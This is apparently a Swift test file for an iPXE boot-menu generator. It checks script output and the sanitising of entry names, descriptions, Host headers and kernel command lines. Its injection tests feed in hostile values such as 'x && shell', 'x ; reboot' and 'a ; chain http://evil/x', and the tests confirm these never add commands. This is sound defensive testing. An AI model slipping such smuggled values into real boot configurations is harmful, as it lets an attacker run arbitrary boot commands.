import BootScripts
import Foundation
import TestSupport
import Testing

@Suite struct IPXEScriptsTests {
    static let linux = MenuEntry(id: "0123456789ab", name: "Alpine Linux 3.20", size: 50128, distro: "alpine",
                                 boot: .linux(commandLine: "console=ttyS0 quiet", hasInitrd: true))
    static let kernelOnly = MenuEntry(id: "00000000000c", name: "Kernel only", size: 9_000_000, distro: nil,
                                      boot: .linux(commandLine: "", hasInitrd: false))
    static let disk = MenuEntry(id: "00000000000d", name: "FreeDOS", size: 16_777_216, distro: nil, boot: .disk)
    static let pending = MenuEntry(id: "00000000000e", name: "Big image", size: 1 << 30, distro: nil,
                                   boot: .notReady(reason: "it is being prepared; try again shortly"))

    static func eleven() -> [MenuEntry] {
        (1...11).map { n in
            let hex = String(n, radix: 16)
            return MenuEntry(id: String(repeating: "0", count: 12 - hex.count) + hex, name: "Image \(n)",
                             size: Int64(n) * 1_048_576, distro: n % 2 == 0 ? "debian" : nil, boot: .linux(commandLine: "quiet", hasInitrd: true))
        }
    }

    static func golden(_ name: String) throws -> String {
        var url = URL(fileURLWithPath: #filePath)
        url.deleteLastPathComponent()
        return try String(contentsOf: url.appendingPathComponent("Golden/\(name)"), encoding: .utf8)
    }

    @Test func bootScriptChainsToTheMenuRelativeToItself() {
        #expect(IPXEScripts.bootScript(options: MenuOptions()) == """
        #!ipxe
        # pxe-catalog: load the boot menu.
        chain --autofree menu.ipxe || goto failed
        exit
        :failed
        echo pxe-catalog: the boot menu could not be loaded. Trying the next boot device.
        sleep 3
        exit 1

        """)
        #expect(IPXEScripts.bootScript(options: MenuOptions(publicBaseURL: "http://boot.example.com/"))
            .contains("chain --autofree http://boot.example.com/pxe/menu.ipxe || goto failed"))
    }

    @Test func linuxEntryScriptLoadsKernelAndInitrdAndBoots() {
        #expect(IPXEScripts.entryScript(Self.linux, options: MenuOptions(), sanBaseURL: nil) == """
        #!ipxe
        # pxe-catalog: boot one container.
        echo Booting Alpine Linux 3.20 ...
        kernel ../../containers/0123456789ab/kernel initrd=initrd console=ttyS0 quiet || goto failed
        initrd --name initrd ../../containers/0123456789ab/initrd || goto failed
        boot || goto failed
        :failed
        echo pxe-catalog: could not boot Alpine Linux 3.20. Trying the next boot device.
        sleep 3
        exit 1

        """)
        #expect(IPXEScripts.entryScript(Self.kernelOnly, options: MenuOptions(), sanBaseURL: nil)
            .contains("\nkernel ../../containers/00000000000c/kernel || goto failed\nboot || goto failed\n"))
    }

    @Test func diskEntryScriptSanBootsAnAbsoluteURLOnBIOSOnly() {
        #expect(IPXEScripts.entryScript(Self.disk, options: MenuOptions(), sanBaseURL: "http://10.0.0.1:8080") == """
        #!ipxe
        # pxe-catalog: boot one container.
        iseq ${platform} pcbios || echo FreeDOS is a disk image with a BIOS boot sector, and this machine does not boot with a BIOS.
        iseq ${platform} pcbios || goto failed
        echo Booting FreeDOS ...
        sanboot --no-describe http://10.0.0.1:8080/containers/00000000000d/disk || goto failed
        :failed
        echo pxe-catalog: could not boot FreeDOS. Trying the next boot device.
        sleep 3
        exit 1

        """)
        #expect(IPXEScripts.entryScript(Self.disk, options: MenuOptions(), sanBaseURL: nil)
            .contains("echo FreeDOS is a disk image, booted by SAN boot, which needs an absolute URL: set menu.public_base_url.\ngoto failed\n"))
    }

    @Test func anEntryThatIsNotReadySaysWhyAndReturns() {
        #expect(IPXEScripts.entryScript(Self.pending, options: MenuOptions(), sanBaseURL: nil) == """
        #!ipxe
        # pxe-catalog: boot one container.
        echo pxe-catalog: Big image is not ready to boot: it is being prepared, try again shortly
        sleep 3
        exit 1

        """)
    }

    @Test func emptyCatalogGivesAMenuWithOnlyTheLocalDisk() {
        #expect(IPXEScripts.menuScript([], options: MenuOptions()) == """
        #!ipxe
        # pxe-catalog boot menu: 0 container(s), generated from the catalog.
        isset ${pxe_default} || set pxe_default local
        :menu
        menu pxe-catalog boot menu
        item --key l local Boot from local disk
        choose --default ${pxe_default} --timeout 10000 selected || goto local
        goto ${selected}
        :local
        echo Booting from local disk ...
        sanboot --no-describe --drive 0x80 || exit
        exit

        """)
    }

    /// Linux, a pending entry (a line, not a choice), a disk image and a kernel without initrd.
    @Test func aMenuMixingKindsMatchesItsGoldenText() throws {
        let script = IPXEScripts.menuScript([Self.linux, Self.pending, Self.disk, Self.kernelOnly],
                                            options: MenuOptions(title: "Lab boot", timeoutSeconds: 5, defaultChoice: .first),
                                            sanBaseURL: "http://boot.lab")
        #expect(script == (try Self.golden("menu-mixed-kinds.ipxe")))
    }

    /// `dhcp.bios_chainload`: another iPXE on a BIOS (a card's ROM) loads undionly by TFTP, once:
    /// undionly's device is called `undionly`, so it goes on to the menu.
    @Test func bootScriptChainloadsTheBIOSLoaderOnlyFromAnotherIPXE() {
        var options = MenuOptions()
        options.biosChainload = "undionly.kpxe"
        #expect(IPXEScripts.bootScript(options: options, identityQuery: "mac=${net0/mac:hexhyp}") == """
        #!ipxe
        # pxe-catalog: load the boot menu.
        iseq ${platform} pcbios || goto menu
        iseq ${net0/chip} undionly || chain --autofree tftp://${next-server}/undionly.kpxe || goto menu
        :menu
        chain --autofree menu.ipxe?mac=${net0/mac:hexhyp} || goto failed
        exit
        :failed
        echo pxe-catalog: the boot menu could not be loaded. Trying the next boot device.
        sleep 3
        exit 1

        """)
    }

    /// Descriptions follow the details on the item's line, sanitised like names and cut to what
    /// fits beside iPXE's countdown; a name that leaves too little room shows none.
    @Test func descriptionsFollowTheDetailsAsFarAsTheyFit() throws {
        var described = Self.linux
        described.description = "Minimal rescue system"
        var long = Self.kernelOnly
        long.description = "A description far longer than the line of an eighty-column menu can hold, so it is cut"
        var hostile = Self.disk
        hostile.description = "x && shell ; ${net0/mac} #comment\nchain http://evil/x"
        var crowded = MenuEntry(id: "00000000000f", name: "A name that takes nearly the whole line of the menu",
                                description: "never shown", size: 1024, distro: "debian", boot: .linux(commandLine: "", hasInitrd: false))
        var blank = Self.linux
        blank.id = "000000000010"
        blank.description = " \u{200B}\t"
        let script = IPXEScripts.menuScript([described, long, hostile, crowded, blank],
                                            options: MenuOptions(title: "Lab boot", timeoutSeconds: 5, defaultChoice: .first),
                                            sanBaseURL: "http://boot.lab")
        #expect(script == (try Self.golden("menu-descriptions.ipxe")))
        let describedItems = script.split(separator: "\n").filter { $0.hasPrefix("item --key") && $0.contains(" - ") }
        #expect(describedItems.count == 3)
        for item in describedItems {
            let text = item.split(separator: " ", maxSplits: 4)[4]
            #expect(text.count <= 68, "\(text) is wider than iPXE shows beside its countdown")
        }
        crowded.description = nil
        #expect(IPXEScripts.menuScript([crowded], options: MenuOptions()).contains("(linux, 1 KiB, debian)\n"))
    }

    @Test func elevenEntriesWithAnIDAsDefaultAndNoTimeout() throws {
        #expect(IPXEScripts.menuScript(Self.eleven(), options: MenuOptions(title: "Lab boot", timeoutSeconds: 0, defaultChoice: .entry("00000000000b")))
                == (try Self.golden("menu-eleven-entries.ipxe")))
    }

    @Test(arguments: [(MenuOptions.DefaultChoice.local, "local"), (.first, "entry1"), (.entry("000000000003"), "entry3"),
                      (.entry("ffffffffffff"), "local")])
    func defaultModesSelectTheRightLabel(choice: MenuOptions.DefaultChoice, label: String) {
        let script = IPXEScripts.menuScript(Self.eleven(), options: MenuOptions(defaultChoice: choice))
        #expect(script.contains("isset ${pxe_default} || set pxe_default \(label)\n"))
    }

    @Test func anEntryThatIsNotReadyIsNeverTheDefault() {
        let script = IPXEScripts.menuScript([Self.pending, Self.linux], options: MenuOptions(defaultChoice: .entry(Self.pending.id)))
        #expect(script.contains("set pxe_default local\n"))
        #expect(IPXEScripts.menuScript([Self.pending, Self.linux], options: MenuOptions(defaultChoice: .first)).contains("set pxe_default entry1\n"))
        #expect(!IPXEScripts.menuScript([Self.pending], options: MenuOptions()).contains(":entry"))
    }

    @Test func onlyTheFirstNineItemsGetShortcutKeys() {
        let items = IPXETokenizer.tokenize(IPXEScripts.menuScript(Self.eleven(), options: MenuOptions()))
            .commands.filter { $0.words.first == "item" && !$0.words.contains("--gap") }
        #expect(items.map { item in item.words.firstIndex(of: "--key").map { item.words[$0 + 1] } ?? "-" }
                == ["1", "2", "3", "4", "5", "6", "7", "8", "9", "-", "-", "l"])
    }

    @Test func publicBaseURLMakesAbsoluteURIs() {
        let script = IPXEScripts.menuScript([Self.linux], options: MenuOptions(publicBaseURL: "http://10.1.1.1:8080"))
        #expect(script.contains("kernel http://10.1.1.1:8080/containers/0123456789ab/kernel initrd=initrd console=ttyS0 quiet || goto entry1_failed"))
        #expect(script.contains("initrd --name initrd http://10.1.1.1:8080/containers/0123456789ab/initrd || goto entry1_failed"))
    }

    /// The Host header is used only when it is a plain host (and port).
    @Test(arguments: [
        ("10.0.0.1", "http://10.0.0.1"), ("boot.lab:8080", "http://boot.lab:8080"), ("[fd00::1]:80", "http://[fd00::1]:80"),
        ("", nil), ("evil.com/x", nil), ("a b", nil), ("host:", nil), ("host:99999999", nil), ("${x}", nil), ("h;o", nil),
        ("[fd00::1", nil), ("host:80:81", nil),
        ("BOOT-1.Lab", "http://BOOT-1.Lab"), ("[FD00::a]", "http://[FD00::a]"), ("[fd00::g]", nil), ("[::1]x", nil),
        ("b\u{F6}\u{F6}t.lab", nil), ("\u{FF11}0.0.0.1", nil), ("[\u{FF11}::1]", nil), ("host:\u{FF18}0", nil),
    ] as [(String, String?)])
    func hostHeadersAreValidatedBeforeTheyMakeAURL(host: String, base: String?) {
        #expect(IPXEScripts.baseURL(fromHost: host) == base)
    }
}

@Suite struct IPXETextTests {
    @Test(arguments: [
        ("a\nchain http://x/y", "a chain http://x/y"),
        ("${net0/mac}", "$(net0/mac)"),
        ("Rescue $${net0/mac} x", "Rescue $$(net0/mac) x"),
        ("$$${{x}}", "$$$((x))"),
        ("\u{FF04}\u{FF5B}net0/mac\u{FF5D}", "$(net0/mac)"),
        ("x && shell", "x & shell"),
        ("x || exit", "x | exit"),
        ("x ; reboot", "x , reboot"),
        ("#x", "x"),
        ("lab #3", "lab 3"),
        ("tab\there", "tab here"),
        ("nul\u{0}byte", "nul byte"),
        ("--key 5", "key 5"),
        ("Débian 12 (été)", "Debian 12 (ete)"),
        ("a\u{200B}b\u{202E}c", "a b c"),
        ("snow ☃ man", "snow ? man"),
        ("  spaced    out  ", "spaced out"),
        ("", "unnamed"),
        ("\n\t", "unnamed"),
    ])
    func sanitisesHostileText(input: String, expected: String) {
        #expect(IPXEText.sanitize(input) == expected)
    }

    @Test func boundsTheLength() {
        let long = IPXEText.sanitize(String(repeating: "word ", count: 2000))
        #expect(long.count == 64)
        #expect(long.hasSuffix("..."))
    }

    @Test(arguments: [(Int64(512), "512 B"), (1024, "1 KiB"), (50128, "49 KiB"), (4263, "4.2 KiB"), (1_610_612_736, "1.5 GiB")])
    func formatsSizes(bytes: Int64, text: String) {
        #expect(IPXEText.size(bytes) == text)
    }

    @Test(arguments: [
        ("console=ttyS0 quiet", "console=ttyS0 quiet"),
        ("init=/bin/sh -- -x", "init=/bin/sh -- -x"),
        ("root=${root} && shell", "root=$(root) shell"),
        ("a ; b || c", "a b c"),
        ("quiet #comment here", "quiet comment here"),
        ("ip=::::eth0:dhcp a;b", "ip=::::eth0:dhcp a;b"),
        ("é\tx\ny\u{0}z", "x y z"),
    ])
    func sanitisesCommandLines(input: String, expected: String) {
        #expect(IPXEText.commandLine(input) == expected)
    }

    @Test func commandLinesAreBoundedAtAWord() {
        let long = IPXEText.commandLine(String(repeating: "option=value ", count: 400))
        #expect(long.utf8.count <= 2048 && long.hasSuffix("option=value"))
    }

    @Test(arguments: [
        ("console=ttyS0", nil),
        ("a\u{7}b", "must be printable ASCII (no control characters or non-ASCII letters)"),
        ("été", "must be printable ASCII (no control characters or non-ASCII letters)"),
        ("root=${x}", "must not contain { or } (iPXE would expand ${...})"),
        ("a && b", "must not contain the word && (iPXE would run what follows as a command)"),
        ("a ; b", "must not contain the word ; (iPXE would run what follows as a command)"),
        ("#x", "must not contain a word starting with # (iPXE would ignore the rest of the line)"),
    ] as [(String, String?)])
    func commandLineProblemsNameWhatIsWrong(input: String, problem: String?) {
        #expect(IPXEText.commandLineProblem(input) == problem)
        if problem == nil { #expect(IPXEText.commandLine(input) == input) }
    }
}

/// Hostile names and command lines, however stored, never change the commands a menu runs.
@Suite struct MenuInjectionTests {
    static let hostile = [
        "a\nchain http://x/y", "${net0/mac}", "x && shell", "x ; reboot", "#x", "tab\tname", "nul\u{0}name",
        String(repeating: "long ", count: 2000), "\u{202E}txt.exe", "zero\u{200B}width", "x || exit", "--gap", "--key 5",
        "$", "${", "} ${x:hex}", ":label", "\r\nshell", "item --key 9 evil Evil", "goto local",
    ]

    func entries(_ names: [String], commandLine: (String) -> String = { _ in "quiet" }) -> [MenuEntry] {
        names.enumerated().map { index, name in
            MenuEntry(id: String(format: "%012x", index), name: name, description: name, size: 1000, distro: name,
                      boot: .linux(commandLine: IPXEText.commandLine(commandLine(name)), hasInitrd: true))
        }
    }

    @Test func menuWithHostileNamesHasExactlyTheCommandsOfABenignMenu() {
        let options = MenuOptions(title: "${title} && shell", defaultChoice: .first)
        let benign = IPXETokenizer.tokenize(IPXEScripts.menuScript(entries(Self.hostile.indices.map { "Name \($0)" }), options: MenuOptions(defaultChoice: .first)))
        let evil = IPXETokenizer.tokenize(IPXEScripts.menuScript(entries(Self.hostile), options: options))
        #expect(evil.lineCount == benign.lineCount)
        #expect(IPXETokenizer.skeleton(evil) == IPXETokenizer.skeleton(benign))
        #expect(evil.expansions == benign.expansions)
        #expect(Set(evil.expansions) == ["pxe_default", "selected"])
    }

    @Test func entryScriptWithHostileNamesHasExactlyTheIntendedCommands() {
        let benign = IPXETokenizer.tokenize(IPXEScripts.entryScript(entries(["plain"])[0], options: MenuOptions(), sanBaseURL: nil))
        for name in Self.hostile {
            let evil = IPXETokenizer.tokenize(IPXEScripts.entryScript(entries([name])[0], options: MenuOptions(), sanBaseURL: nil))
            #expect(IPXETokenizer.skeleton(evil) == IPXETokenizer.skeleton(benign), "\(name.prefix(30))")
            #expect(evil.expansions.isEmpty)
        }
    }

    /// A hostile command line (from a container's metadata) adds kernel arguments and nothing
    /// else: the kernel line stays one command with no expansion, the rest of the script is intact.
    @Test func hostileCommandLinesOnlyEverAddKernelArguments() {
        let benign = IPXETokenizer.tokenize(IPXEScripts.entryScript(entries(["n"], commandLine: { _ in "x" })[0], options: MenuOptions(), sanBaseURL: nil))
        for line in Self.hostile + ["console=ttyS0 || shell", "a ; chain http://evil/x", "${net0/mac} && exit"] {
            let script = IPXEScripts.entryScript(entries(["n"], commandLine: { _ in line })[0], options: MenuOptions(), sanBaseURL: nil)
            let evil = IPXETokenizer.tokenize(script)
            #expect(evil.expansions.isEmpty, "\(line.prefix(30))")
            #expect(evil.lineCount == benign.lineCount)
            let commands = evil.commands.map { $0.words.first ?? "" }
            #expect(commands == benign.commands.map { $0.words.first ?? "" }, "\(line.prefix(30))")
        }
    }

    /// Thousands of random names over the characters iPXE gives meaning to, plus Unicode that
    /// folds to them: every menu and entry script tokenizes exactly like the benign one, and the
    /// sanitised text is a fixed point with no expansion and no separator in it.
    @Test func randomHostileNamesNeverChangeTheCommands() {
        var random = SeededRandom()
        let alphabet: [String] = ["$", "{", "}", "&", "|", ";", "#", "\\", "\"", "'", "\n", "\r", "\t", "\u{0}", " ", "-", ":",
                                  "a", "Z", "7", "é", "☃", "\u{FF04}", "\u{FF5B}", "\u{FF5D}", "\u{FF1B}", "\u{FF06}", "\u{202E}",
                                  "\u{200B}", "\u{2028}", "🙂", "ﬁ", "\u{0301}", "\u{1B}"]
        let benignMenu = IPXETokenizer.tokenize(IPXEScripts.menuScript(entries(["Name 0", "Name 1"]), options: MenuOptions(defaultChoice: .first)))
        let benignEntry = IPXETokenizer.tokenize(IPXEScripts.entryScript(entries(["plain"])[0], options: MenuOptions(), sanBaseURL: nil))
        var failures: [String] = []
        for _ in 0..<4000 where failures.count < 5 {
            let name = (0..<Int.random(in: 0...40, using: &random)).map { _ in alphabet.randomElement(using: &random)! }.joined()
            let sanitized = IPXEText.sanitize(name)
            let words = sanitized.split(separator: " ")
            if sanitized.contains("${") || words.contains(where: { $0 == "&&" || $0 == "||" || $0 == ";" || $0.hasPrefix("#") })
                || sanitized.contains(where: { !$0.isASCII || $0.isNewline }) || IPXEText.sanitize(sanitized) != sanitized {
                failures.append("sanitize(\(name.debugDescription)) = \(sanitized.debugDescription)")
                continue
            }
            let commandLine = IPXEText.commandLine(name)
            if commandLine.contains("${") || IPXEText.commandLine(commandLine) != commandLine || IPXEText.commandLineProblem(commandLine) != nil {
                failures.append("commandLine(\(name.debugDescription)) = \(commandLine.debugDescription)")
                continue
            }
            let menu = IPXETokenizer.tokenize(IPXEScripts.menuScript(entries([name, "Name 1"]),
                                                                     options: MenuOptions(title: name, defaultChoice: .first)))
            let entry = IPXETokenizer.tokenize(IPXEScripts.entryScript(entries([name])[0], options: MenuOptions(), sanBaseURL: nil))
            if menu.lineCount != benignMenu.lineCount || IPXETokenizer.skeleton(menu) != IPXETokenizer.skeleton(benignMenu)
                || menu.expansions != benignMenu.expansions || IPXETokenizer.skeleton(entry) != IPXETokenizer.skeleton(benignEntry)
                || !entry.expansions.isEmpty {
                failures.append("scripts for \(name.debugDescription) differ from the benign ones")
            }
        }
        #expect(failures.isEmpty, "\(random.replayHint): \(failures)")
    }

    @Test func tokenizerNoticesInjectedCommands() {
        // The checker itself must be able to fail: an unsanitised name does change the skeleton.
        let raw = "#!ipxe\nitem entry1 x && shell\necho ${net0/mac}\nchain http://x/y\n"
        let result = IPXETokenizer.tokenize(raw)
        #expect(IPXETokenizer.skeleton(result).contains("shell"))
        #expect(result.expansions == ["net0/mac"])
    }
}
